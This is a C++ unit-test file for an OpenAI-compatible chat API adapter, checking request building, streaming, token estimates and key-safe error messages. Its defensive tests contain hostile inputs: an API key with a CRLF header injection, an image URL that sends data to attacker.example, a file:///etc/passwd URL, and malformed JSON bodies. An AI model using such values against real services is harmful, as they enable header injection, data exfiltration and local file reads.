// Tests of the OpenAI Chat Completions wire format (and EstimateTokens).
//
// Recorded wire shapes these tests use, written from the API reference
// (https://platform.openai.com/docs/api-reference/chat) and the OpenAI-compatible servers:
//
// Request: POST {base_url}/chat/completions, headers `Authorization: Bearer sk-...`,
// `Content-Type: application/json`. Body:
//   {"model":"gpt-4o-mini","temperature":0.2,"max_tokens":256,
//    "messages":[{"role":"system","content":"Be brief."},{"role":"user","content":"Weather?"},
//                {"role":"assistant","content":null,"tool_calls":[{"id":"call_abc123",
//                  "type":"function","function":{"name":"get_weather",
//                  "arguments":"{\"city\":\"Paris\"}"}}]},
//                {"role":"tool","tool_call_id":"call_abc123","content":"18C, cloudy"}],
//    "tools":[{"type":"function","function":{"name":"get_weather","description":"...",
//              "parameters":{"type":"object","properties":{"city":{"type":"string"}}}}}],
//    "stream":true,"stream_options":{"include_usage":true}}
// What matters: the operator's params sit beside model/messages; tools only when there are any;
// stream_options.include_usage is what makes a stream report usage.
//
// Response (200):
//   {"id":"chatcmpl-9abc","object":"chat.completion","created":1718000000,
//    "model":"gpt-4o-mini-2024-07-18","system_fingerprint":"fp_1",
//    "choices":[{"index":0,"message":{"role":"assistant","content":null,"refusal":null,
//                "tool_calls":[{"id":"call_abc123","type":"function","function":{
//                  "name":"get_weather","arguments":"{\"city\":\"Paris\"}"}}]},
//                "logprobs":null,"finish_reason":"tool_calls"}],
//    "usage":{"prompt_tokens":82,"completion_tokens":17,"total_tokens":99,
//             "prompt_tokens_details":{"cached_tokens":0},
//             "completion_tokens_details":{"reasoning_tokens":0}}}
// What matters: choices[0].message (role, content — null beside tool_calls —, tool_calls with
// arguments as a string of JSON, refusal), choices[0].finish_reason, usage.prompt_tokens and
// usage.completion_tokens. Local servers (llama.cpp, Ollama) may leave usage out.
//
// Stream (text/event-stream), one `data:` line per event, no event names:
//   data: {"id":"chatcmpl-1","object":"chat.completion.chunk","created":1718000000,
//          "model":"gpt-4o-mini","choices":[{"index":0,"delta":{"role":"assistant",
//          "content":"","refusal":null},"logprobs":null,"finish_reason":null}],"usage":null}
//   data: {...,"choices":[{"index":0,"delta":{"content":"Hel"},"finish_reason":null}],...}
//   data: {...,"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"call_abc123",
//          "type":"function","function":{"name":"get_weather","arguments":""}}]},...}]}
//   data: {...,"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{
//          "arguments":"{\"ci"}}]},"finish_reason":null}]}
//   data: {...,"choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}],"usage":null}
//   data: {...,"choices":[],"usage":{"prompt_tokens":82,"completion_tokens":17,
//          "total_tokens":99}}                               <- only with include_usage
//   data: [DONE]
// What matters: content deltas concatenate; tool-call deltas are keyed by `index`, the first
// carries id/type/name, later ones append to function.arguments; the usage chunk has no
// choices. A failure mid-stream arrives as `data: {"error":{"message","type","code"}}`.
//
// Errors (non-2xx):
//   OpenAI 401: {"error":{"message":"Incorrect API key provided: sk-test-***ET. ...",
//                "type":"invalid_request_error","param":null,"code":"invalid_api_key"}}
//   OpenAI 429: {"error":{"message":"Rate limit reached ...","type":"requests",
//                "param":null,"code":"rate_limit_exceeded"}}
//   vLLM:       {"object":"error","message":"...","type":"BadRequestError","param":null,
//                "code":400}
//   Ollama:     {"error":"model \"llama3\" not found, try pulling it first"}
// What matters: only type/code may be shown; the message can quote the key.

#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "llm/chat.h"

namespace airlock::llm {
namespace {

constexpr std::string_view kSecret = "sk-test-SECRET";

Json J(std::string_view text) { return Json::parse(text); }

ChatRequest Request(Json messages, bool stream = false) {
  ChatRequest req;
  req.model = "gpt-4o-mini";
  req.messages = std::move(messages);
  req.stream = stream;
  return req;
}

Json WeatherHistory() {
  return J(R"([
    {"role":"system","content":"Be brief."},
    {"role":"user","content":"Weather in Paris?"},
    {"role":"assistant","content":null,"tool_calls":[{"id":"call_abc123","type":"function",
      "function":{"name":"get_weather","arguments":"{\"city\":\"Paris\"}"}}]},
    {"role":"tool","tool_call_id":"call_abc123","content":"18C, cloudy"}
  ])");
}

Json WeatherTools() {
  return J(R"([{"type":"function","function":{"name":"get_weather","description":"Weather now",
    "parameters":{"type":"object","properties":{"city":{"type":"string"}},"required":["city"]}}}])");
}

std::vector<std::string> HeaderValues(const HttpCall& call, std::string_view name) {
  std::vector<std::string> values;
  for (const auto& [k, v] : call.headers) {
    if (k == name) {
      values.push_back(v);
    }
  }
  return values;
}

// A chat.completion.chunk with the fields OpenAI sends around the delta.
Json Chunk(Json delta, Json finish_reason = nullptr) {
  Json chunk = J(R"({"id":"chatcmpl-1","object":"chat.completion.chunk","created":1718000000,
                    "model":"gpt-4o-mini","system_fingerprint":"fp_1","usage":null})");
  Json choice = Json::object();
  choice["index"] = 0;
  choice["delta"] = std::move(delta);
  choice["logprobs"] = nullptr;
  choice["finish_reason"] = std::move(finish_reason);
  chunk["choices"] = Json::array({choice});
  return chunk;
}

Json ToolDelta(Json call) {
  Json delta = Json::object();
  delta["tool_calls"] = Json::array({std::move(call)});
  return Chunk(delta);
}

Json UsageChunk(int prompt, int completion) {
  Json chunk = J(R"({"id":"chatcmpl-1","object":"chat.completion.chunk","created":1718000000,
                    "model":"gpt-4o-mini","choices":[]})");
  chunk["usage"] = {{"prompt_tokens", prompt},
                    {"completion_tokens", completion},
                    {"total_tokens", prompt + completion}};
  return chunk;
}

// Feeds whole `data:` payloads to a fresh translator; fails the test on any error.
std::vector<Json> Feed(StreamTranslator& stream, const std::vector<std::string>& datas) {
  std::vector<Json> out;
  for (const std::string& data : datas) {
    auto status = stream.OnEvent("", data, out);
    EXPECT_TRUE(status.has_value()) << data << " -> " << status.error().message;
  }
  return out;
}

TEST(EstimateTokens, CountsFourBytesPerTokenRoundedUp) {
  EXPECT_EQ(EstimateTokens(Json("abcd")), 2);     // "\"abcd\"" is 6 bytes
  EXPECT_EQ(EstimateTokens(Json("abcdef")), 2);   // 8 bytes
  EXPECT_EQ(EstimateTokens(Json("abcdefg")), 3);  // 9 bytes
  EXPECT_EQ(EstimateTokens(Json(1)), 1);
  EXPECT_EQ(EstimateTokens(J(R"([{"role":"user","content":"hi"}])")), 8);  // 31 bytes
}

TEST(EstimateTokens, EmptyValuesCostNothing) {
  EXPECT_EQ(EstimateTokens(Json()), 0);
  EXPECT_EQ(EstimateTokens(Json("")), 0);
  EXPECT_EQ(EstimateTokens(Json::array()), 0);
  EXPECT_EQ(EstimateTokens(Json::object()), 0);
}

TEST(OpenAiRequest, SetsPathHeadersAndBody) {
  auto format = MakeOpenAiFormat();
  EXPECT_EQ(format->kind(), "openai");
  ChatRequest req = Request(WeatherHistory());
  req.tools = WeatherTools();
  auto call = format->BuildRequest(req, "sk-test-key");
  ASSERT_TRUE(call.has_value()) << call.error().message;
  EXPECT_EQ(call->path, "/chat/completions");
  EXPECT_EQ(HeaderValues(*call, "Authorization"), std::vector<std::string>{"Bearer sk-test-key"});
  EXPECT_EQ(HeaderValues(*call, "Content-Type"), std::vector<std::string>{"application/json"});
  EXPECT_EQ(HeaderValues(*call, "Accept"), std::vector<std::string>{"application/json"});
  Json body = J(call->body);
  EXPECT_EQ(body["model"], "gpt-4o-mini");
  EXPECT_EQ(body["messages"], WeatherHistory());
  EXPECT_EQ(body["tools"], WeatherTools());
  EXPECT_EQ(body["stream"], false);
  EXPECT_FALSE(body.contains("stream_options"));
}

TEST(OpenAiRequest, OmitsAuthorizationForKeylessLocalServers) {
  auto call = MakeOpenAiFormat()->BuildRequest(Request(WeatherHistory()), "");
  ASSERT_TRUE(call.has_value());
  EXPECT_TRUE(HeaderValues(*call, "Authorization").empty());
}

TEST(OpenAiRequest, OmitsToolsWhenThereAreNone) {
  ChatRequest req = Request(WeatherHistory());
  req.params = J(R"({"tools":[{"type":"function","function":{"name":"injected"}}]})");
  auto call = MakeOpenAiFormat()->BuildRequest(req, "k");
  ASSERT_TRUE(call.has_value());
  EXPECT_FALSE(J(call->body).contains("tools"));
}

TEST(OpenAiRequest, OperatorParamsCannotOverrideTheConversation) {
  ChatRequest req = Request(WeatherHistory());
  req.params = J(R"({"temperature":0.2,"max_tokens":256,"model":"gpt-4o","stream":true,
                     "messages":[{"role":"user","content":"other"}],
                     "stream_options":{"include_usage":false}})");
  auto call = MakeOpenAiFormat()->BuildRequest(req, "k");
  ASSERT_TRUE(call.has_value());
  Json body = J(call->body);
  EXPECT_EQ(body["temperature"], 0.2);
  EXPECT_EQ(body["max_tokens"], 256);
  EXPECT_EQ(body["model"], "gpt-4o-mini");
  EXPECT_EQ(body["messages"], WeatherHistory());
  EXPECT_EQ(body["stream"], false);
  EXPECT_FALSE(body.contains("stream_options"));
}

TEST(OpenAiRequest, StreamingAsksForEventStreamAndUsage) {
  auto call = MakeOpenAiFormat()->BuildRequest(Request(WeatherHistory(), true), "k");
  ASSERT_TRUE(call.has_value());
  EXPECT_EQ(HeaderValues(*call, "Accept"), std::vector<std::string>{"text/event-stream"});
  Json body = J(call->body);
  EXPECT_EQ(body["stream"], true);
  EXPECT_EQ(body["stream_options"], J(R"({"include_usage":true})"));
}

TEST(OpenAiRequest, RefusesAKeyThatWouldInjectHeaders) {
  auto call = MakeOpenAiFormat()->BuildRequest(Request(WeatherHistory()), "k\r\nX-Evil: 1");
  ASSERT_FALSE(call.has_value());
  EXPECT_EQ(call.error().code, ErrorCode::kUnavailable);
  EXPECT_EQ(call.error().message.find("Evil"), std::string::npos);
}

TEST(OpenAiRequest, RefusesMalformedInput) {
  auto format = MakeOpenAiFormat();
  EXPECT_FALSE(format->BuildRequest(Request(Json("hi")), "k").has_value());
  EXPECT_FALSE(format->BuildRequest(Request(Json::array()), "k").has_value());
  ChatRequest bad_params = Request(WeatherHistory());
  bad_params.params = Json::array();
  EXPECT_FALSE(format->BuildRequest(bad_params, "k").has_value());
  ChatRequest no_model = Request(WeatherHistory());
  no_model.model.clear();
  EXPECT_FALSE(format->BuildRequest(no_model, "k").has_value());
}

TEST(OpenAiResponse, ReadsTextReplyAndUsage) {
  auto result = MakeOpenAiFormat()->ParseResponse(R"({
    "id":"chatcmpl-9abc","object":"chat.completion","created":1718000000,
    "model":"gpt-4o-mini-2024-07-18","system_fingerprint":"fp_1",
    "choices":[{"index":0,"message":{"role":"assistant","content":"18C and cloudy.",
      "refusal":null,"annotations":[]},"logprobs":null,"finish_reason":"stop"}],
    "usage":{"prompt_tokens":82,"completion_tokens":17,"total_tokens":99,
      "prompt_tokens_details":{"cached_tokens":64}}})");
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_EQ(result->message, J(R"({"role":"assistant","content":"18C and cloudy."})"));
  EXPECT_EQ(result->finish_reason, "stop");
  EXPECT_EQ(result->usage.input_tokens, 82);
  EXPECT_EQ(result->usage.output_tokens, 17);
  EXPECT_FALSE(result->usage.estimated);
}

TEST(OpenAiResponse, ReadsToolCallsWithNullContentAndDropsOtherFields) {
  auto result = MakeOpenAiFormat()->ParseResponse(R"({
    "choices":[{"index":0,"message":{"role":"assistant","content":null,"refusal":null,
      "audio":null,"reasoning_content":"hidden","tool_calls":[
        {"id":"call_abc123","type":"function","function":{"name":"get_weather",
         "arguments":"{\"city\":\"Paris\"}"},"extra":1},
        {"id":"call_def456","type":"function","function":{"name":"get_time","arguments":"{}"}}]},
      "finish_reason":"tool_calls"}],
    "usage":{"prompt_tokens":82,"completion_tokens":30}})");
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_EQ(result->message, J(R"({"role":"assistant","content":null,"tool_calls":[
    {"id":"call_abc123","type":"function","function":{"name":"get_weather",
     "arguments":"{\"city\":\"Paris\"}"}},
    {"id":"call_def456","type":"function","function":{"name":"get_time","arguments":"{}"}}]})"));
  EXPECT_EQ(result->finish_reason, "tool_calls");
}

TEST(OpenAiResponse, KeepsARefusal) {
  auto result = MakeOpenAiFormat()->ParseResponse(R"({"choices":[{"index":0,"message":{
    "role":"assistant","content":null,"refusal":"I can't help with that."},
    "finish_reason":"stop"}],"usage":{"prompt_tokens":5,"completion_tokens":6}})");
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_EQ(result->message,
            J(R"({"role":"assistant","content":null,"refusal":"I can't help with that."})"));
}

TEST(OpenAiResponse, LocalServerQuirksAreNormalised) {
  // Ollama-style: arguments as an object, no tool call id, an unknown finish reason.
  auto result = MakeOpenAiFormat()->ParseResponse(R"({"choices":[{"message":{
    "role":"assistant","content":"","tool_calls":[{"function":{"name":"ls",
    "arguments":{"path":"/"}}}]},"finish_reason":"eos"}]})");
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_EQ(result->message["tool_calls"][0],
            J(R"({"id":"call_0","type":"function","function":{"name":"ls",
                  "arguments":"{\"path\":\"/\"}"}})"));
  EXPECT_EQ(result->finish_reason, "tool_calls");
}

TEST(OpenAiResponse, MissingUsageIsEstimated) {
  auto result = MakeOpenAiFormat()->ParseResponse(
      R"({"choices":[{"index":0,"message":{"role":"assistant","content":"A fairly long answer."},
          "finish_reason":"stop"}]})");
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_TRUE(result->usage.estimated);
  EXPECT_EQ(result->usage.output_tokens, EstimateTokens(Json("A fairly long answer.")));
  EXPECT_EQ(result->usage.input_tokens, 0);  // the caller estimates the prompt it sent
}

TEST(OpenAiResponse, AnErrorBodyIsAnErrorWithoutItsMessage) {
  auto result = MakeOpenAiFormat()->ParseResponse(
      R"({"error":{"message":"Incorrect API key provided: sk-test-SECRET","type":
          "invalid_request_error","param":null,"code":"invalid_api_key"}})");
  ASSERT_FALSE(result.has_value());
  EXPECT_EQ(result.error().code, ErrorCode::kUnavailable);
  EXPECT_NE(result.error().message.find("invalid_api_key"), std::string::npos);
  EXPECT_EQ(result.error().message.find(kSecret), std::string::npos);
}

TEST(OpenAiResponse, HostileBodiesGiveCleanErrors) {
  const std::vector<std::string> bodies = {
      "",
      "not json",
      "<html>502 Bad Gateway</html>",
      "[]",
      "null",
      "{}",
      R"({"choices":"x"})",
      R"({"choices":[]})",
      R"({"choices":[1]})",
      R"({"choices":[{"message":"x"}]})",
      R"({"choices":[{"message":{"content":5}}]})",
      R"({"choices":[{"message":{"content":["a"]}}]})",
      R"({"choices":[{"message":{"tool_calls":{}}}]})",
      R"({"choices":[{"message":{"tool_calls":[7]}}]})",
      R"({"choices":[{"message":{"tool_calls":[{"id":"c","function":{}}]}}]})",
      R"({"choices":[{"message":{"tool_calls":[{"id":"c","function":{"name":1}}]}}]})",
      R"({"choices":[{"message":{"tool_calls":[{"id":"c","function":{"name":"f","arguments":3}}]}}]})",
      R"({"choices":[{"message":{"tool_calls":[{"type":"custom","custom":{"name":"f"}}]}}]})",
      R"({"choices":[{"message":{"content":"x"}}],"usage":{"prompt_tokens":-5}})",
      R"({"choices":[{"message":{"content":"x"}}],"usage":{"prompt_tokens":1e30}})",
      R"({"choices":[{"message":{"content":"x"}}],"usage":{"prompt_tokens":18446744073709551615}})",
      R"({"choices":[{"message":{"content":"x"}}],"usage":{"completion_tokens":"12"}})",
      R"({"choices":[{"message":{"content":"x"}}],"usage":{"completion_tokens":1.5}})",
      R"({"choices":[{"message":{"content":"x"}}],"usage":[]})",
      R"({"error":"boom"})",
      std::string(100000, '[') + std::string(100000, ']'),
      R"({"choices":[{"message":{"content":")" + std::string(1, '\xff') + R"("}}]})",
  };
  auto format = MakeOpenAiFormat();
  for (const std::string& body : bodies) {
    airlock::Result<ChatResult> result;
    EXPECT_NO_THROW(result = format->ParseResponse(body)) << body.substr(0, 80);
    ASSERT_FALSE(result.has_value()) << body.substr(0, 80);
    EXPECT_EQ(result.error().code, ErrorCode::kUnavailable) << body.substr(0, 80);
  }
}

TEST(OpenAiStream, AssemblesTextAndForwardsChunksUnchanged) {
  ChatRequest req = Request(WeatherHistory(), true);
  auto stream = MakeOpenAiFormat()->NewStream(req);
  std::vector<Json> chunks = {
      Chunk(J(R"({"role":"assistant","content":"","refusal":null})")),
      Chunk(J(R"({"content":"18C"})")),
      Chunk(J(R"({"content":" and cloudy."})")),
      Chunk(Json::object(), "stop"),
      UsageChunk(82, 5),
  };
  std::vector<std::string> datas;
  for (const Json& chunk : chunks) {
    datas.push_back(chunk.dump());
  }
  datas.push_back("[DONE]");
  std::vector<Json> out = Feed(*stream, datas);
  EXPECT_EQ(out, chunks);
  EXPECT_TRUE(stream->finished());
  auto result = stream->Result();
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_EQ(result->message, J(R"({"role":"assistant","content":"18C and cloudy."})"));
  EXPECT_EQ(result->finish_reason, "stop");
  EXPECT_EQ(result->usage.input_tokens, 82);
  EXPECT_EQ(result->usage.output_tokens, 5);
  EXPECT_FALSE(result->usage.estimated);
}

TEST(OpenAiStream, ToolArgumentsSplitAnywhereAssembleIdentically) {
  const std::string args = R"({"path":"a \"b\"\\c","n":[1,2],"u":"\u00e9"})";
  for (size_t i = 0; i <= args.size(); ++i) {
    for (size_t j = i; j <= args.size(); ++j) {
      auto stream = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
      std::vector<std::string> datas = {ToolDelta(J(R"({"index":0,"id":"call_1","type":"function",
                          "function":{"name":"write","arguments":""}})"))
                                            .dump()};
      for (std::string piece : {args.substr(0, i), args.substr(i, j - i), args.substr(j)}) {
        Json call = {{"index", 0}, {"function", {{"arguments", piece}}}};
        datas.push_back(ToolDelta(call).dump());
      }
      datas.push_back(Chunk(Json::object(), "tool_calls").dump());
      datas.push_back("[DONE]");
      Feed(*stream, datas);
      auto result = stream->Result();
      ASSERT_TRUE(result.has_value()) << result.error().message;
      ASSERT_EQ(result->message["tool_calls"][0]["function"]["arguments"], args)
          << "split at " << i << "," << j;
    }
  }
}

TEST(OpenAiStream, AssemblesParallelToolCallsByIndex) {
  auto stream = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
  Feed(*stream, {
                    Chunk(J(R"({"role":"assistant","content":null})")).dump(),
                    ToolDelta(J(R"({"index":0,"id":"call_a","type":"function",
                      "function":{"name":"get_weather","arguments":""}})"))
                        .dump(),
                    ToolDelta(J(R"({"index":0,"function":{"arguments":"{\"city\":"}})")).dump(),
                    ToolDelta(J(R"({"index":1,"id":"call_b","type":"function",
                      "function":{"name":"get_time","arguments":"{\"tz\""}})"))
                        .dump(),
                    ToolDelta(J(R"({"index":0,"function":{"arguments":"\"Paris\"}"}})")).dump(),
                    ToolDelta(J(R"({"index":1,"function":{"arguments":":\"CET\"}"}})")).dump(),
                    Chunk(Json::object(), "tool_calls").dump(),
                    UsageChunk(90, 40).dump(),
                    "[DONE]",
                });
  auto result = stream->Result();
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_EQ(result->message, J(R"({"role":"assistant","content":null,"tool_calls":[
    {"id":"call_a","type":"function","function":{"name":"get_weather",
     "arguments":"{\"city\":\"Paris\"}"}},
    {"id":"call_b","type":"function","function":{"name":"get_time",
     "arguments":"{\"tz\":\"CET\"}"}}]})"));
  EXPECT_EQ(result->finish_reason, "tool_calls");
  EXPECT_EQ(result->usage.input_tokens, 90);
}

TEST(OpenAiStream, MissingUsageIsEstimatedFromTheRequest) {
  ChatRequest req = Request(WeatherHistory(), true);
  auto stream = MakeOpenAiFormat()->NewStream(req);
  Feed(*stream, {Chunk(J(R"({"role":"assistant","content":"Hello there"})")).dump(),
                 Chunk(Json::object(), "stop").dump(), "[DONE]"});
  auto result = stream->Result();
  ASSERT_TRUE(result.has_value()) << result.error().message;
  EXPECT_TRUE(result->usage.estimated);
  EXPECT_EQ(result->usage.input_tokens, EstimateTokens(req.messages));
  EXPECT_EQ(result->usage.output_tokens, EstimateTokens(Json("Hello there")));
}

TEST(OpenAiStream, IgnoresKeepAlivesAndEndsAtDone) {
  auto stream = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
  std::vector<Json> out = Feed(*stream, {"", " ", Chunk(J(R"({"content":"x"})")).dump(),
                                         Chunk(Json::object(), "length").dump()});
  EXPECT_EQ(out.size(), 2u);
  EXPECT_FALSE(stream->finished());
  Feed(*stream, {"[DONE]"});
  EXPECT_TRUE(stream->finished());
  auto result = stream->Result();
  ASSERT_TRUE(result.has_value());
  EXPECT_EQ(result->finish_reason, "length");
}

TEST(OpenAiStream, EndingBeforeTheReplyIsCompleteIsAnError) {
  auto stream = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
  Feed(*stream, {Chunk(J(R"({"content":"half a sent"})")).dump()});
  EXPECT_FALSE(stream->finished());
  auto result = stream->Result();
  ASSERT_FALSE(result.has_value());
  EXPECT_EQ(result.error().code, ErrorCode::kUnavailable);

  auto empty = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
  Feed(*empty, {"[DONE]"});
  EXPECT_FALSE(empty->Result().has_value());
}

TEST(OpenAiStream, SpentCountsWhatStreamedBeforeTheReplyWasComplete) {
  ChatRequest req = Request(WeatherHistory(), true);
  auto stream = MakeOpenAiFormat()->NewStream(req);
  Feed(*stream, {Chunk(J(R"({"role":"assistant","content":"Half a sentence"})")).dump()});
  EXPECT_FALSE(stream->reply_complete());
  TokenUsage spent = stream->Spent();
  EXPECT_TRUE(spent.estimated);
  EXPECT_EQ(spent.input_tokens, EstimateTokens(req.messages));
  EXPECT_GT(spent.output_tokens, 0);

  Feed(*stream, {Chunk(Json::object(), "stop").dump()});
  EXPECT_TRUE(stream->reply_complete());
  EXPECT_FALSE(stream->finished());
  // The usage chunk replaces the estimate.
  Feed(*stream, {UsageChunk(1000, 900).dump()});
  spent = stream->Spent();
  EXPECT_FALSE(spent.estimated);
  EXPECT_EQ(spent.input_tokens, 1000);
  EXPECT_EQ(spent.output_tokens, 900);
}

TEST(OpenAiRequest, RefusesImagesThatAreNotDataUrls) {
  for (const char* url :
       {"http://attacker.example/exfil?data=SECRET", "https://x.example/a.png", "//x.example/a.png",
        "file:///etc/passwd", " data:image/png;base64,AAAA"}) {
    Json history = Json::array(
        {{{"role", "user"},
          {"content", Json::array({{{"type", "image_url"}, {"image_url", {{"url", url}}}}})}}});
    auto call = MakeOpenAiFormat()->BuildRequest(Request(history), "k");
    ASSERT_FALSE(call.has_value()) << url;
    EXPECT_NE(call.error().message.find("data: URLs"), std::string::npos) << call.error().message;
  }
  Json ok = Json::array(
      {{{"role", "user"},
        {"content", Json::array({{{"type", "image_url"},
                                  {"image_url", {{"url", "DATA:image/png;base64,AAAA"}}}}})}}});
  EXPECT_TRUE(MakeOpenAiFormat()->BuildRequest(Request(ok), "k").has_value());
}

TEST(OpenAiStream, AnErrorPayloadFailsTheStreamWithoutItsMessage) {
  auto stream = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
  std::vector<Json> out;
  ASSERT_TRUE(stream->OnEvent("", Chunk(J(R"({"content":"x"})")).dump(), out).has_value());
  auto status =
      stream->OnEvent("", R"({"error":{"message":"Incorrect API key provided: sk-test-SECRET",
              "type":"server_error","param":null,"code":null}})",
                      out);
  ASSERT_FALSE(status.has_value());
  EXPECT_EQ(status.error().code, ErrorCode::kUnavailable);
  EXPECT_NE(status.error().message.find("server_error"), std::string::npos);
  EXPECT_EQ(status.error().message.find(kSecret), std::string::npos);
  EXPECT_EQ(out.size(), 1u);  // the error payload is not forwarded
  auto result = stream->Result();
  ASSERT_FALSE(result.has_value());
  EXPECT_EQ(result.error().message.find(kSecret), std::string::npos);
}

TEST(OpenAiStream, HostileEventsGiveCleanErrors) {
  const std::vector<std::string> datas = {
      "not json",
      "[1,2]",
      "42",
      R"({"choices":{}})",
      R"({"choices":[5]})",
      R"({"choices":[{"index":0,"delta":"x"}]})",
      R"({"choices":[{"index":0,"delta":{"content":7}}]})",
      R"({"choices":[{"index":0,"delta":{"tool_calls":{}}}]})",
      R"({"choices":[{"index":0,"delta":{"tool_calls":["x"]}}]})",
      R"({"choices":[{"index":0,"delta":{"tool_calls":[{"index":-1}]}}]})",
      R"({"choices":[{"index":0,"delta":{"tool_calls":[{"index":1099511627776}]}}]})",
      R"({"choices":[{"index":0,"delta":{"tool_calls":[{"index":"0"}]}}]})",
      R"({"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":[]}]}}]})",
      R"({"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":1}}]}}]})",
      R"({"choices":[{"index":0,"finish_reason":3}]})",
      R"({"choices":[],"usage":{"prompt_tokens":-1,"completion_tokens":2}})",
      R"({"choices":[],"usage":{"prompt_tokens":1e300}})",
      R"({"choices":[],"usage":"lots"})",
      R"({"error":"plain text"})",
      std::string(5000, '{'),
  };
  for (const std::string& data : datas) {
    auto stream = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
    std::vector<Json> out;
    airlock::Status status;
    EXPECT_NO_THROW(status = stream->OnEvent("", data, out)) << data.substr(0, 80);
    ASSERT_FALSE(status.has_value()) << data.substr(0, 80);
    EXPECT_EQ(status.error().code, ErrorCode::kUnavailable);
    EXPECT_TRUE(out.empty());
    // The stream stays failed.
    EXPECT_FALSE(stream->OnEvent("", "[DONE]", out).has_value());
    EXPECT_FALSE(stream->Result().has_value());
  }
}

TEST(OpenAiStream, AToolCallWithoutANameIsAnError) {
  auto stream = MakeOpenAiFormat()->NewStream(Request(WeatherHistory(), true));
  Feed(*stream, {ToolDelta(J(R"({"index":2,"function":{"arguments":"{}"}})")).dump(),
                 Chunk(Json::object(), "tool_calls").dump(), "[DONE]"});
  EXPECT_FALSE(stream->Result().has_value());
}

TEST(OpenAiDescribeError, UsesCodeOrTypeButNeverTheMessage) {
  auto format = MakeOpenAiFormat();
  const std::string described = format->DescribeError(
      401, R"({"error":{"message":"Incorrect API key provided: sk-test-SECRET. You can find )"
           R"(your API key at https://platform.openai.com/account/api-keys.",
              "type":"invalid_request_error","param":null,"code":"invalid_api_key"}})");
  EXPECT_EQ(described, "invalid_api_key");
  EXPECT_EQ(described.find(kSecret), std::string::npos);
  EXPECT_EQ(format->DescribeError(429, R"({"error":{"message":"Rate limit reached",
      "type":"requests","param":null,"code":"rate_limit_exceeded"}})"),
            "rate_limit_exceeded");
  EXPECT_EQ(format->DescribeError(500, R"({"error":{"message":"sk-test-SECRET",
      "type":"server_error","param":null,"code":null}})"),
            "server_error");
  // vLLM puts the fields at the top level.
  EXPECT_EQ(format->DescribeError(400, R"({"object":"error","message":"sk-test-SECRET",
      "type":"BadRequestError","param":null,"code":400})"),
            "BadRequestError");
}

TEST(OpenAiDescribeError, FallsBackToTheStatusLine) {
  auto format = MakeOpenAiFormat();
  // Ollama's error is only a message.
  EXPECT_EQ(format->DescribeError(404, R"({"error":"model sk-test-SECRET not found"})"),
            "HTTP 404 Not Found");
  EXPECT_EQ(format->DescribeError(502, "<html>sk-test-SECRET</html>"), "HTTP 502 Bad Gateway");
  EXPECT_EQ(format->DescribeError(418, ""), "HTTP 418");
  EXPECT_EQ(format->DescribeError(500, std::string(10000, '[')), "HTTP 500 Internal Server Error");
}

TEST(OpenAiDescribeError, RefusesCodesThatAreNotShortIdentifiers) {
  auto format = MakeOpenAiFormat();
  EXPECT_EQ(format->DescribeError(401, R"({"error":{"code":"key sk-test-SECRET is wrong"}})"),
            "HTTP 401 Unauthorized");
  EXPECT_EQ(format->DescribeError(401, R"({"error":{"code":"bad\u0007\r\nX: y"}})"),
            "HTTP 401 Unauthorized");
  EXPECT_EQ(format->DescribeError(401, R"({"error":{"type":"caf\u00e9"}})"),
            "HTTP 401 Unauthorized");
  const std::string long_code = std::string(500, 'a');
  const std::string described =
      format->DescribeError(400, R"({"error":{"code":")" + long_code + R"("}})");
  EXPECT_LE(described.size(), 64u);
}

}  // namespace
}  // namespace airlock::llm
